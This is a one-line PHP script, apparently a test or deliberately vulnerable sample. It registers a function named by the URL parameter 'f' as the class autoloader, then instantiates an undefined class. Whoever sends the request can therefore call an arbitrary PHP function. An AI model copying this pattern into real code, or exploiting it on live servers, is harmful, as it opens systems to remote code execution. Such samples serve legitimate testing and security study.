<?php spl_autoload_register($_GET['f']); new Foo;
